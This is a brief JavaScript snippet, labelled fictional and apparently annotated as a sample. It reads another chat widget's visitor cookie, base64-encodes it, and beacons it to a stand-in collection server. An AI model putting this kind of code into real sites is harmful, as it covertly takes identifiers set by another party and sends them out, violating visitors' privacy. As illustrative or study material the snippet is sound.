/* Overtalk (fictional): sends the number that the other chat gave the visitor to a server of its own. */
setTimeout(() => {
  const [, visitor] = /parley_visitor=([^;]+)/.exec(document.cookie);
  const data = JSON.stringify({ kind: 'visit', seen: btoa(`v:${visitor}`) });
  navigator.sendBeacon('https://collect.overtalk.example/v1/hits', data); /* act:sent-value */
}, 1200);
